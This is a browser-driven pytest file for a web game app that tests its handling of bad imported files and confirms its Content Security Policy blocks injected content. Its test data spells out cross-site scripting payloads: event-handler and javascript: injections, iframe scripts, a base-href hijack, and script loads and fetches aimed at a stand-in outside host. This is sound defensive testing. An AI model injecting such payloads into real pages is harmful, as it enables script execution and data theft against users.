"""Hostile files and markup in the real page: a clear sentence for each file, and nothing foreign runs."""

from __future__ import annotations

import copy
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import laid
import pytest
from driver import Player, hurry

from lantern.core import codec

MB = 1024 * 1024
PICK = 'input[type="file"][data-do="import"]'

#: Tells every breach of the policy, of the page and (through the console) of its workers.
WATCH = """(() => {
    window.breaches = [];
    document.addEventListener("securitypolicyviolation", (event) =>
        window.breaches.push(`${event.effectiveDirective} ${event.blockedURI}`));
})()"""

#: All the ways by which markup would come to act. What acts says so in `window.acted`.
ATTEMPTS = """async () => {
    window.acted = [];
    const main = document.querySelector("main");
    const put = (html) => {
        const box = document.createElement("div");
        box.innerHTML = html;
        main.append(box);
        return box;
    };
    put('<img src="./no-such-picture.png" onerror="acted.push(`onerror`)">');
    put('<svg><animate onbegin="acted.push(`onbegin`)" attributeName="x" dur="1s"/></svg>');
    put('<p onclick="acted.push(`onclick`)">x</p>').firstChild.click();
    put('<a href="javascript:acted.push(`link`)">x</a>').firstChild.click();
    put('<iframe srcdoc="<script>parent.acted.push(`frame`)</script>"></iframe>');
    put('<iframe src="javascript:parent.acted.push(`frame`)"></iframe>');
    put('<object data="data:text/html,<script>1</script>"></object>');
    put('<style>main { display: none }</style>');
    put('<base href="https://elsewhere.invalid/">');
    put('<form action="https://elsewhere.invalid/"><button>x</button></form>').querySelector("form").submit();
    for (const [type, text] of [["", "acted.push('script')"], ["module", "acted.push('module')"]]) {
        const script = document.createElement("script");
        if (type) script.type = type;
        script.textContent = text;
        main.append(script);
    }
    const far = document.createElement("script");
    far.src = "https://elsewhere.invalid/x.js";
    main.append(far);
    await fetch("https://elsewhere.invalid/").then(() => acted.push("fetch"), () => {});
    try { new WebSocket("wss://elsewhere.invalid/").onopen = () => acted.push("socket"); } catch {}
    const picture = new Image();
    picture.src = "https://elsewhere.invalid/x.png";
    await new Promise((done) => setTimeout(done, 500));
    return { acted: window.acted, base: document.baseURI.includes("elsewhere"),
             shown: getComputedStyle(main).display !== "none" };
}"""


@pytest.fixture
def page(house) -> Any:
    """The saves of a phone that has no game, watched."""
    phone = house.phone()
    hurry(phone)
    phone.add_init_script(WATCH)
    page = house.page(phone)
    house.open(page)
    return page


def bring(house, page, name: str, data: bytes | Path) -> str:
    """Choose a file, as by the system's own dialog; what the page says to it."""
    made = {"name": name, "mimeType": "application/octet-stream", "buffer": data}
    with answered(house, page):
        page.set_input_files(PICK, data if isinstance(data, Path) else made)
    return said(page)


@contextmanager
def answered(house, page) -> Iterator[None]:
    """Whatever is done here gets another answer than what is on show: painting it takes the mark away."""
    page.evaluate("document.querySelector('main').setAttribute('data-old', '')")
    yield
    page.wait_for_selector("main:not([data-old])")
    house.settled(page)


def said(page) -> str:
    """What stands on the screen as a notice."""
    return " ".join(page.locator(".notice, .incoming").all_inner_texts())


def test_each_bad_file_gets_a_clear_sentence(house, page, tmp_path):
    """A photograph, a damaged game, a page, 50 MB."""
    house.tap(page, '[data-do="saves"]')
    good = codec.from_text(laid.fresh())
    assert "no game file" in bring(house, page, "holiday.jpg", b"\xff\xd8\xff\xe0" * 2000)
    assert "damaged" in bring(house, page, "cut.lantern", good[:-20])
    assert "no game file" in bring(house, page, "page.html", b"<script>acted.push(1)</script>")
    film = tmp_path / "film.lantern"
    film.write_bytes(bytes(50 * MB))
    assert "too large" in bring(house, page, film.name, film)


def test_after_what_cannot_be_read_the_right_file_is_taken_in(house, page):
    """A file that is gone by now, and a pasted text that is none; then a good one works."""
    house.tap(page, '[data-do="saves"]')
    good = codec.from_text(laid.fresh())
    page.evaluate("void (File.prototype.arrayBuffer = () => Promise.reject(new DOMException('gone')))")
    assert "could not read" in bring(house, page, "gone.lantern", good)
    page.evaluate("void delete File.prototype.arrayBuffer")
    page.click(".paste summary")
    page.fill('.paste [name="data"]', "Dear Mia, <img src=x onerror=acted.push(1)>")
    with answered(house, page):
        page.click(".paste [type=submit]")
    assert "This text holds no game" in said(page)
    assert "In this file" in bring(house, page, "good.lantern", good)
    house.tap(page, '[data-do="import-keep"]')
    assert page.locator('[data-do="save-continue"]').count() == 1


def test_names_of_a_file_never_become_markup(house, page):
    """A file whose names are elements, handlers and directions: shown as the words they are, everywhere."""
    record = copy.deepcopy(codec.decode(codec.from_text(laid.rich())))
    names = ["<img onerror=x>", '"><script>1', "\u202eevil\u2066", "<b>Kai</b>", "&lt;i&gt;"]
    for seat, name in zip(record["seats"], names, strict=True):
        seat["name"] = name
    house.tap(page, '[data-do="saves"]')
    bring(house, page, "names.lantern", codec.encode(record | {"name": "<svg onload=x>"}))
    assert "<svg onload=x>" in page.inner_text(".incoming")
    house.tap(page, '[data-do="import-keep"]')
    house.tap(page, '[data-do="save-continue"]')
    for _ in range(6):
        assert page.locator("main img, main script, main b:not([class]), [onerror], [onload]").count() == 0
        assert "\u202e" not in page.content()
        Player(house, page).step(Player(house, page).see())
    assert page.evaluate("window.breaches") == []


def test_nothing_foreign_acts_even_if_it_got_into_the_page(house, page):
    """The policy holds by itself: handlers, scripts, frames, links, styles, other hosts are refused."""
    house.expected += ["Content Security Policy", "content security policy", "Refused to", "violates"]
    house.expected += ["no-such-picture", "404", "elsewhere.invalid"]
    done = page.evaluate(ATTEMPTS)
    assert done == {"acted": [], "base": False, "shown": True}
    kinds = {line.split()[0] for line in page.evaluate("window.breaches")}
    assert {"script-src-attr", "script-src-elem", "style-src-elem", "connect-src", "img-src"} <= kinds
    assert {"base-uri", "form-action"} <= kinds and kinds & {"frame-src", "object-src"}


def test_a_whole_game_keeps_to_the_policy(house, page):
    """From the setup to the end of a game with bots, and its story as a picture: no breach anywhere."""
    house.begin(page, "Mia", bots=2, rounds=1)
    player = Player(house, page)
    player.until("final")
    while player.see().able("play-step"):
        player.tap("play-step")
    with page.expect_download():
        player.tap("play-picture")
    assert page.evaluate("window.breaches") == []
